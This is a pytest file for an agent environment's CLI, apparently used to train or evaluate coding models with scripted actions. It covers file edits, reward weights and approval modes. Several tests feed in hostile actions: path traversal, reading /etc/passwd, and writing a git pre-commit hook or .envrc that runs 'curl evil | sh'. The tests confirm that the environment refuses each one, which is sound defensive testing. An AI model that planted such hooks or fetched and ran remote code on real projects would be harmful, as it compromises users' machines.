"""The dspy environment end to end through ``rlm run --env dspy`` with the scripted provider.

These runs use the ``process`` runtime (fast, no engine; NOT a security boundary, chosen explicitly), whose
interpreter is this venv's: pytest is there, DSPy is not, so the task is plain Python. The same loop in the
Docker sandbox with DSPy installed is ``test_dspy_docker.py``.
"""

import json

import pytest

from rlm_host.testing import EnvironmentContract

PLUGIN = "rlm-env-dspy,rlm-env-generic"  # RLM_PLUGINS: the dspy environment drives the generic one

BUGGY = "def add(a, b):\n    \"\"\"The sum of a and b.\"\"\"\n    return a - b\n"
TESTS = "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n"


def run(rlm_cli, rlm_script, workdir, actions, *extra, plugins=PLUGIN):
    model = rlm_script([json.dumps(a) for a in actions])
    return rlm_cli("run", "Write calc.add and its test; make the test pass.", "--env", "dspy", "--workdir",
                   str(workdir), "--model", model, "--max-steps", str(len(actions)), "--json", *extra,
                   plugins=plugins)


def steps_of(result):
    run_result = json.loads(result.out)
    events = [json.loads(line) for line in open(run_result["trajectory_path"])]
    return run_result, [e["data"] for e in events if e["type"] == "step"]


def test_write_test_patch_after_a_failure_and_finish(rlm_cli, rlm_script, rlm_isolated):
    project = rlm_isolated.work / "project"
    result = run(rlm_cli, rlm_script, project, [
        {"action": "write_file", "path": "calc.py", "content": BUGGY},
        {"action": "write_file", "path": "tests/test_calc.py", "content": TESTS},
        {"action": "patch_file", "path": "calc.py", "search": "a - b", "replace": "a + b"},
        {"action": "run_tests"},
        {"action": "final", "final_response": "calc.add fixed; tests pass"},
    ], "--sandbox", "process")
    assert result.code == 0, result.out + result.err
    run_result, steps = steps_of(result)
    assert run_result["completed"] and run_result["environment"] == "dspy" and run_result["sandbox"] == "process"
    assert [s["action"] for s in steps] == ["write_file", "write_file", "patch_file", "run_tests", "final"]
    first, test_write, patch, tests = (s["observation"] for s in steps[:4])
    assert first["verifier"]["compile"] is True and first["verifier"]["tests"] is None  # no test file yet
    assert test_write["verifier"]["tests"] is False
    assert "assert -1 == 5" in test_write["verifier"]["tests_run"]["output"]
    assert patch["verifier"]["tests"] is True and patch["mode"] == "search_replace"
    assert tests["passed"] and tests["counts"] == {"passed": 1}
    rewards = [s["reward"] for s in steps]
    assert rewards[2] - rewards[1] == pytest.approx(0.25 + 0.25), "the patch turned a pytest penalty into a bonus"
    assert rewards[3] == pytest.approx(0.1 + 0.25) and rewards[4] == 1.0
    assert (project / "calc.py").read_text().endswith("return a + b\n")


def test_hostile_paths_fail_the_step_not_the_run(rlm_cli, rlm_script, rlm_isolated):
    project = rlm_isolated.work / "project"
    outside = rlm_isolated.work / "outside.py"
    result = run(rlm_cli, rlm_script, project, [
        {"action": "write_file", "path": "../outside.py", "content": "x = 1"},
        {"action": "write_file", "path": str(outside), "content": "x = 1"},
        {"action": "read_file", "path": "/etc/passwd"},
        {"action": "run_tests", "selection": ["--rootdir=/"]},
        {"action": "final", "final_response": "refused"},
    ], "--sandbox", "process")
    assert result.code == 0, result.out + result.err
    _, steps = steps_of(result)
    errors = [s["observation"].get("error", "") for s in steps[:4]]
    assert "'..' is not allowed" in errors[0] and "outside the project folder" in errors[1]
    assert "outside the project folder" in errors[2] and "no options" in errors[3]
    assert all(s["reward"] == pytest.approx(-0.2) for s in steps[:4])
    assert not outside.exists() and "root:" not in result.out


def test_version_control_and_tool_metadata_are_read_only_for_the_model(rlm_cli, rlm_script, rlm_isolated):
    """A git hook or an ``.envrc`` runs the next time the user's tools look at the project: the model's actions never
    write, patch or create them, at any depth and in any case (the step fails, the run goes on)."""
    project = rlm_isolated.work / "project"
    (project / ".git" / "hooks").mkdir(parents=True)
    (project / ".envrc").write_text("export SAFE=1\n")
    result = run(rlm_cli, rlm_script, project, [
        {"action": "write_file", "path": ".git/hooks/pre-commit", "content": "curl evil | sh"},
        {"action": "patch_file", "path": ".envrc", "search": "SAFE=1", "replace": "SAFE=$(curl evil)"},
        {"action": "write_file", "path": "vendor/.GIT/config", "content": "[core]\nfsmonitor = evil"},
        {"action": "write_file", "path": "calc.py", "content": BUGGY},
        {"action": "final", "final_response": "done"},
    ], "--sandbox", "process")
    assert result.code == 0, result.out + result.err
    _, steps = steps_of(result)
    errors = [s["observation"].get("error", "") for s in steps[:3]]
    assert all("version-control or tool metadata" in error for error in errors), errors
    assert steps[3]["observation"].get("success", True) and (project / "calc.py").is_file()
    assert not (project / ".git" / "hooks" / "pre-commit").exists() and not (project / "vendor").exists()
    assert (project / ".envrc").read_text() == "export SAFE=1\n"


def test_search_list_read_and_an_unknown_action(rlm_cli, rlm_script, rlm_isolated):
    project = rlm_isolated.work / "project"
    (project / "pkg").mkdir(parents=True)
    (project / "pkg" / "mod.py").write_text("def forward(self):\n    return 1\n")
    result = run(rlm_cli, rlm_script, project, [
        {"action": "list_tree", "depth": 3},
        {"action": "search_code", "pattern": r"def \w+\("},
        {"action": "search_code", "pattern": "(unclosed"},
        {"action": "read_file", "path": "pkg/mod.py", "start_line": 2},
        {"action": "teleport"},
        {"action": "final", "final_response": "ok"},
    ], "--sandbox", "process")
    _, steps = steps_of(result)
    listing, found, bad, read, unknown = (s["observation"] for s in steps[:5])
    assert listing["entries"] == ["pkg/", "pkg/mod.py"]
    assert found["matches"] == [{"path": "pkg/mod.py", "line": 1, "text": "def forward(self):"}]
    assert bad["success"] is False and "bad regex" in bad["error"]
    assert read["content"] == "    2      return 1"
    assert steps[4]["action"] == "unsupported_action" and "valid actions" in unknown["error"]
    assert steps[4]["reward"] == pytest.approx(-0.2)


def test_the_verifier_weights_are_settings_of_the_environment(rlm_cli, rlm_script, rlm_isolated):
    """``[environment.dspy]`` holds the verifier's and the DSPy patterns' weights; ``[rewards]`` the shared base."""
    (rlm_isolated.work / "rlm.toml").write_text(
        "[environment.dspy]\nverifier_compile_bonus = 0.5\nverifier_pytest_penalty = 0.05\n"
        "verifier_validation_bonus = 0.01\nverifier_validation_penalty = 0.02\ndspy_pattern_match_bonus = 0.11\n\n"
        "[rewards]\nrun_python_base = 0.05\n")
    project = rlm_isolated.work / "project"
    result = run(rlm_cli, rlm_script, project, [
        {"action": "write_file", "path": "calc.py", "content": BUGGY},
        {"action": "write_file", "path": "tests/test_calc.py", "content": TESTS},
        {"action": "run_python", "code": "def forward(self):\n    return 1\nprint(forward(None))"},
        {"action": "final", "final_response": "done"},
    ], "--sandbox", "process")
    assert result.code == 0, result.out + result.err
    _, steps = steps_of(result)
    first, tests = (s["observation"]["verifier"] for s in steps[:2])
    assert first["compile"] is True and first["tests"] is None and tests["compile"] is True and tests["tests"] is False

    def validation(check):
        return {True: 0.01, False: -0.02, None: 0.0}[check["validation"]]

    assert steps[0]["reward"] == pytest.approx(0.05 + 0.5 + validation(first))
    assert steps[1]["reward"] == pytest.approx(0.05 + 0.5 - 0.05 + validation(tests))
    assert steps[2]["reward"] == pytest.approx(0.05 + 0.7 + 0.11), "run_python: [rewards] base + success, one pattern"


def test_a_verifier_weight_under_rewards_names_its_new_place(rlm_cli, rlm_script, rlm_isolated):
    (rlm_isolated.work / "rlm.toml").write_text("[rewards]\nverifier_compile_bonus = 0.5\n")
    result = run(rlm_cli, rlm_script, rlm_isolated.work / "project", [{"action": "final", "final_response": "x"}],
                 "--sandbox", "process")
    assert result.code == 2
    assert "rewards.verifier_compile_bonus: moved to [environment.dspy] verifier_compile_bonus" in result.err


def test_a_runtime_without_a_workspace_is_a_clear_error(rlm_cli, rlm_script, rlm_isolated):
    result = run(rlm_cli, rlm_script, rlm_isolated.work, [{"action": "final", "final_response": "x"}],
                 "--sandbox", "monty", plugins=f"{PLUGIN},rlm-sandbox-monty")
    assert result.code == 2
    assert "the dspy environment edits a project folder, and the monty sandbox cannot mount one" in result.err
    assert "process (NOT a security boundary)" in result.err and "Traceback" not in result.err


class TestDSPyEnvironment(EnvironmentContract):
    """The whole environment protocol suite (a project folder under tmp_path, the process runtime)."""

    environment = "dspy"
    distribution = PLUGIN
    final_reply = '{"action": "final", "final_response": "42"}'
    final_answer = "42"
    working_reply = '{"action": "list_tree"}'


def test_a_read_only_run_refuses_writes_and_tests_as_steps_and_rules_open_one_tool(rlm_cli, rlm_script, rlm_isolated):
    """--approve read-only: writes and the tests are refused observations; the run goes on and reads; an
    --approval-rule lets one tool through; with ask and nobody to ask (no terminal), ask refuses."""
    project = rlm_isolated.work / "project"
    project.mkdir()
    (project / "calc.py").write_text(BUGGY)
    actions = [{"action": "write_file", "path": "calc.py", "content": "x = 1\n"},
               {"action": "run_tests"},
               {"action": "read_file", "path": "calc.py"},
               {"action": "final", "final_response": "read only"}]
    result = run(rlm_cli, rlm_script, project, actions, "--sandbox", "process", "--approve", "read-only")
    assert result.code == 0, result.out + result.err
    run_result, steps = steps_of(result)
    assert run_result["completed"] and [s["action"] for s in steps] == ["write_file", "run_tests", "read_file", "final"]
    assert all(s["observation"]["refused"] and "read-only run" in s["observation"]["error"] for s in steps[:2])
    assert steps[0]["reward"] == 0.0 and (project / "calc.py").read_text() == BUGGY
    assert "return a - b" in json.dumps(steps[2]["observation"])
    opened = run(rlm_cli, rlm_script, project, actions, "--sandbox", "process", "--approve", "read-only",
                 "--approval-rule", "write_file=allow")
    _, steps = steps_of(opened)
    assert "refused" not in steps[0]["observation"] and steps[1]["observation"]["refused"]
    assert (project / "calc.py").read_text() == "x = 1\n"
    asked = run(rlm_cli, rlm_script, project, actions[:1] + actions[3:], "--sandbox", "process", "--approve", "ask")
    _, steps = steps_of(asked)
    assert "needs approval" in steps[0]["observation"]["error"]
    bad = run(rlm_cli, rlm_script, project, actions, "--approve", "sometimes")
    assert bad.code == 2 and "--approve" in bad.err
